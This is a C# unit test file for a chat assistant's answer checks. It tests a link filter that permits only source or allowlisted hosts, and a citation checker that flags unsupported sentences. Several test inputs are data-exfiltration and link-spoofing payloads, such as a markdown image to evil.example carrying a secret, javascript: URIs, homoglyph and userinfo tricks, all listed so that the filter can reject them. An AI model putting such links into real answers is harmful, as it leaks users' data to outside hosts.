using ChatSphere.AI.Chat;
using ChatSphere.AI.Chat.Citations;

namespace ChatSphere.Tests.Context;

public sealed class CheckingAnswersTests
{
    private const string Source = "The policy is at https://docs.example.com/returns?lang=en and costs nothing. See also http://shop.example.org/a_(b).";

    private static IReadOnlyList<string> Allowed(string answer, params string[] listed) => AnswerLinks.AllowedHosts(answer, [Source], listed);

    [Theory]
    [InlineData("See [the policy](https://docs.example.com/returns?lang=en).", "docs.example.com")]
    [InlineData("See <https://docs.example.com/returns?lang=en>.", "docs.example.com")]
    [InlineData("See [it][1].\n\n[1]: https://docs.example.com/returns?lang=en", "docs.example.com")]
    [InlineData("See https://DOCS.example.com/returns?lang=en.", "docs.example.com")]
    [InlineData("See [b](http://shop.example.org/a_(b)).", "shop.example.org")]
    public void An_address_of_the_sources_may_be_a_link(string answer, string host) => Assert.Equal([host], Allowed(answer));

    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=secret)")]
    [InlineData("[x](https://evil.example/)")]
    [InlineData("<https://evil.example/>")]
    [InlineData("[x][1]\n\n[1]: https://evil.example/")]
    [InlineData("<img src=\"https://evil.example/p\">")]
    [InlineData("<a href='https://evil.example'>x</a>")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](//evil.example/)")]
    [InlineData("[x](https:evil.example)")]
    [InlineData("[x](https://docs.example.com@evil.example/)")]
    [InlineData("[x](https://docs.example.com.evil.example/returns?lang=en)")]
    [InlineData("[x](https://dоcs.example.com/returns?lang=en)")]
    [InlineData("[x](https://xn--dcs-sxc.example.com/returns?lang=en)")]
    [InlineData("[x](ftp://docs.example.com/returns)")]
    public void An_address_of_anybody_elses_may_not(string answer) => Assert.Empty(Allowed(answer));

    [Theory]
    [InlineData("[x](https://docs.example.com/returns?lang=en&leak=secret)")]
    [InlineData("[x](https://docs.example.com/steal/secret)")]
    [InlineData("Good: https://docs.example.com/returns?lang=en but also [x](https://docs.example.com/?d=secret)")]
    [InlineData("Good: https://docs.example.com/returns?lang=en but also [x](&#104;ttps://docs.example.com/?d=secret)")]
    [InlineData("Good: https://docs.example.com/returns?lang=en but also [x](https:\\//docs.example.com/?d=secret)")]
    [InlineData("Good: https://docs.example.com/returns?lang=en but also [x](//docs.example.com/?d=secret)")]
    [InlineData("Good: https://docs.example.com/returns?lang=en but also [x](https://docs.exa\u200Bmple.com/?d=secret)")]
    [InlineData("Good: https://docs.example.com/returns?lang=en but also [x](https://me@docs.example.com/?d=secret)")]
    public void Nothing_can_be_hung_on_an_address_of_the_sources(string answer) => Assert.Empty(Allowed(answer));

    [Fact]
    public void Hosts_of_the_list_may_always_be_linked_to()
    {
        Assert.Equal(["help.acme.test"], Allowed("[x](https://help.acme.test/anything?at=all)", "*.acme.test"));
        Assert.Empty(Allowed("[x](https://acme.test/)", "*.acme.test"));
        Assert.Equal(["acme.test:8443"], Allowed("[x](https://acme.test:8443/)", "acme.test:8443"));
        Assert.Empty(Allowed("[x](https://acme.test:8443/)", "acme.test"));
    }

    [Fact]
    public void Names_in_other_letters_are_told_in_ascii() =>
        Assert.Equal(["xn--bcher-kva.example"], AnswerLinks.AllowedHosts("[x](https://bücher.example/a)", ["https://bücher.example/a"], []));

    private static readonly Dictionary<int, string> Passages = new()
    {
        [1] = "Customers may return an item within 30 days of delivery. The seal must be intact.",
        [2] = "Express delivery to Iceland takes three days and costs 12 euros.",
    };

    private static List<string> Unsupported(string text) => [.. Support.Unsupported(text, Passages).Select(r => text[r.Start..r.End])];

    [Theory]
    [InlineData("Items may be returned within 30 days of delivery [1].")]
    [InlineData("Items may be returned within 30 days of delivery. [1] Express delivery to Iceland takes three days. [2]")]
    [InlineData("- Items may be returned within 30 days of delivery [1]\n- Delivery to Iceland costs 12 euros [2]")]
    [InlineData("Anything else? Here is what I found:")]
    [InlineData("# Returns and delivery of items\n\nReturned items need an intact seal [1].")]
    [InlineData("```\nvar answer = compute(every, single, thing);\n```")]
    [InlineData("Man kann die Ware innerhalb von 30 Tagen zurückgeben, wenn das Siegel noch unversehrt ist [1].")]
    [InlineData("Sure!")]
    public void What_a_source_says_is_not_marked(string text) => Assert.Empty(Unsupported(text));

    [Theory]
    [InlineData("The company was founded by two brothers in a garage.", "The company was founded by two brothers in a garage.")]
    [InlineData("Items may be returned within 90 days of delivery [1].", "Items may be returned within 90 days of delivery")]
    [InlineData("Penguins live in the southern hemisphere and eat fish [2].", "Penguins live in the southern hemisphere and eat fish")]
    [InlineData("Items may be returned within 30 days [1]. Shipping is paid by the manufacturer.", "Shipping is paid by the manufacturer.")]
    [InlineData("- Items may be returned within 30 days [1]\n- Shipping is paid by the manufacturer", "Shipping is paid by the manufacturer")]
    public void What_none_says_is(string text, string marked) => Assert.Equal([marked], Unsupported(text));

    [Fact]
    public void Ranges_are_in_order_and_within_the_text()
    {
        var text = string.Join(' ', Enumerable.Range(1, 200).Select(i => $"Sentence number {i} speaks of strange new worlds{(i % 3 == 0 ? " [1]" : "")}."));
        var at = 0;
        foreach (var (start, end) in Support.Unsupported(text, Passages))
        {
            Assert.InRange(start, at, text.Length);
            Assert.InRange(end, start + 1, text.Length);
            at = end;
        }
    }
}
